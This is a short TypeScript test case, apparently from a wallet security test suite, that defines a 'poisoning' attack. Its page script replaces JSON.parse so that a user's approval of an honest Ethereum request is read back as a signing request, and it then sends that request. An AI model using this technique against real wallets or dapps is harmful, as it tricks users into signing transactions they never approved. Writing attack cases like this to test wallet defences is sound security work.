import type { Attack } from './kit/attack.ts'

export default {
  family: 'poisoning',
  how: 'Replaces JSON.parse, so that what the user continued is read back as another request.',
  script: `
    const { parse } = JSON
    JSON.parse = function (...args) {
      const value = parse(...args)
      return Array.isArray(value) && typeof value[0] === 'string' ? attack.sign.params : value
    }
    const asked = ethereum.request(attack.honest)
    attack.tell('asked')
    await attack.ended(asked)
    ethereum.request(attack.sign)
  `,
  async hands({ hear, continueHonest }) {
    await hear('asked')
    await continueHonest()
  },
} satisfies Attack
